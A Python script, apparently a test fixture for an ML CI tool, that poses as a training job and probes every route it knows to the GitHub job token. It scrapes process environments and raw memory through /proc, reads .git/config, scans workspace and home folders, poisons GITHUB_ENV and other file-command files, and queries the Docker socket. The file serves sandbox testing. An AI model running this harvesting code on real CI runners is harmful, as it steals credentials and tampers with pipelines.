"""A hostile training script: it "trains" (copies a model file prepared beforehand) and tries
every route to the job's token and the runner's side channels it knows of.

It knows nothing of the token: it looks for what one looks like (an installation token
``ghs_`` and 36 letters and digits, or the base64 ``x-access-token:`` header actions/checkout
stores), as a real attacker would. It knows the runner's layout: the file-command folder at
``/github/file_commands`` in a docker action, ``../../_temp/_runner_file_commands`` from the
workspace on the runner's disk. Each route becomes one finding ``{route, outcome, leaked}`` in
``$MLOPS_OUTPUT_DIR/findings.json``; the script itself always succeeds. Standard library only:
it runs as whatever user mlops-ci gives it, with whatever Python that user can run.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
TOKEN_SHAPE = re.compile(rb"ghs_[A-Za-z0-9]{36}|eC1hY2Nlc3MtdG9rZW46[A-Za-z0-9+/=]{20,}")
FILE_COMMANDS = ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_PATH",
                 "GITHUB_STATE")
MAX_REGION = 256 * 1024 * 1024
MAX_FILES, MAX_FILE_BYTES = 5_000, 2 * 1024 * 1024  # a bounded search: it must finish
findings: list[dict[str, object]] = []


def leaked(data: bytes) -> bool:
    return TOKEN_SHAPE.search(data) is not None


def note(route: str, outcome: str, leak: bool) -> None:
    findings.append({"route": route, "outcome": outcome, "leaked": leak})


def read(path: Path) -> bytes | str:
    """The bytes of ``path``, or why they could not be read."""
    try:
        return path.read_bytes()
    except OSError as error:
        return f"{type(error).__name__}: {error.strerror}"


def try_read(route: str, path: Path) -> None:
    data = read(path)
    if isinstance(data, str):
        note(route, data, False)
    else:
        note(route, f"read {len(data)} bytes", leaked(data))


def try_append(route: str, path: Path) -> None:
    try:
        with path.open("a", encoding="utf-8") as handle:
            handle.write("POISONED_BY_TRAINING=1\n")
    except OSError as error:
        note(route, f"cannot write: {type(error).__name__}: {error.strerror}", False)
    else:
        note(route, "appended a line", True)


def try_engine(socket_path: Path) -> None:
    """The Docker engine's socket (the runner mounts it into a docker action): whoever can talk
    to it can start a privileged container and read every process's memory."""
    import socket

    if not socket_path.exists():
        return
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        client.settimeout(5)
        client.connect(str(socket_path))
        client.sendall(b"GET /version HTTP/1.0\r\n\r\n")
        answer = client.recv(64)
    except OSError as error:
        note(f"Docker engine at {socket_path}", f"{type(error).__name__}: {error.strerror}",
             False)
    else:
        note(f"Docker engine at {socket_path}", f"answered {answer[:20]!r}", True)
    finally:
        client.close()


def pids() -> list[int]:
    return sorted(int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdigit())


def ancestors() -> list[int]:
    chain, pid = [], os.getppid()
    while pid > 0 and pid not in chain:
        chain.append(pid)
        status = read(Path(f"/proc/{pid}/status"))
        if isinstance(status, str):
            break
        ppid = [line for line in status.decode().splitlines() if line.startswith("PPid:")]
        pid = int(ppid[0].split()[1]) if ppid else 0
    return chain


def scan_memory(pid: int) -> None:
    """Read every readable region of ``pid``'s memory through /proc/PID/mem."""
    maps = read(Path(f"/proc/{pid}/maps"))
    if isinstance(maps, str):
        note(f"/proc/{pid}/mem", f"maps unreadable: {maps}", False)
        return
    try:
        memory = Path(f"/proc/{pid}/mem").open("rb", buffering=0)  # noqa: SIM115
    except OSError as error:
        note(f"/proc/{pid}/mem", f"{type(error).__name__}: {error.strerror}", False)
        return
    scanned, hit = 0, False
    with memory:
        for line in maps.decode().splitlines():
            fields = line.split()
            if len(fields) < 2 or "r" not in fields[1]:
                continue
            start, end = (int(part, 16) for part in fields[0].split("-"))
            if end - start > MAX_REGION or (len(fields) > 5 and fields[5] == "[vvar]"):
                continue
            try:
                memory.seek(start)
                chunk = memory.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            scanned += len(chunk or b"")
            hit = hit or leaked(chunk or b"")
    note(f"/proc/{pid}/mem", f"scanned {scanned} bytes" if scanned else "nothing readable", hit)


def scan_tree(route: str, root: Path) -> None:
    """Every file under ``root`` this user can read, searched for the secret."""
    readable = unreadable = 0
    hits: list[str] = []
    for folder, dirs, files in os.walk(root, onerror=lambda _: None):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys")]
        for name in files:
            path = Path(folder) / name
            if path.is_symlink() or not path.is_file() or readable + unreadable >= MAX_FILES:
                continue
            if path.stat().st_size > MAX_FILE_BYTES:
                continue
            data = read(path)
            if isinstance(data, str):
                unreadable += 1
            else:
                readable += 1
                if leaked(data):
                    hits.append(str(path))
    outcome = f"{readable} files read, {unreadable} unreadable"
    note(route, outcome + (f"; secret in {hits[:5]}" if hits else ""), bool(hits))


def main() -> int:
    output = Path(os.environ["MLOPS_OUTPUT_DIR"])
    shutil.copyfile(HERE / "prepared" / "model.skops", output / "model.skops")  # the "training"
    note("own environment (os.environ)", f"{len(os.environ)} variables",
         leaked("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()))
    try_read("/proc/self/environ", Path("/proc/self/environ"))
    for name in FILE_COMMANDS:
        if name in os.environ:
            note(f"${name} in the environment", os.environ[name], True)
            try_append(f"${name} appended", Path(os.environ[name]))
    for pid in pids():
        if pid != os.getpid():
            try_read(f"/proc/{pid}/environ", Path(f"/proc/{pid}/environ"))
            try_read(f"/proc/{pid}/cmdline", Path(f"/proc/{pid}/cmdline"))
    for pid in ancestors()[:2]:  # mlops-ci, and what started it
        scan_memory(pid)
    workspace = Path(os.environ.get("GITHUB_WORKSPACE") or Path.cwd())
    for folder in (workspace, *workspace.parents):
        if (folder / ".git" / "config").exists():
            try_read(f"{folder}/.git/config", folder / ".git" / "config")
    scan_tree(f"every file under the workspace {workspace}", workspace)
    runner_folder = workspace.parent.parent / "_temp" / "_runner_file_commands"
    for folder in (Path("/github/file_commands"), runner_folder):
        if folder.exists():
            scan_tree(f"file-command folder {folder}", folder)
            try:
                files = sorted(folder.iterdir())
            except OSError as error:
                note(f"list {folder}", f"{type(error).__name__}: {error.strerror}", False)
                files = []
            for path in [*files, folder / "planted_by_training"]:
                try_append(f"append to {path}", path)
    try_engine(Path("/var/run/docker.sock"))
    for home in {Path.home(), Path("/github/home")}:
        if home.exists():
            scan_tree(f"home {home}", home)
    (output / "findings.json").write_text(json.dumps(findings, indent=1), encoding="utf-8")
    for finding in findings:
        if finding["leaked"]:
            print("LEAK", finding["route"], finding["outcome"])
    print(f"hostile training: {len(findings)} routes tried, "
          f"{sum(bool(f['leaked']) for f in findings)} leaked", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
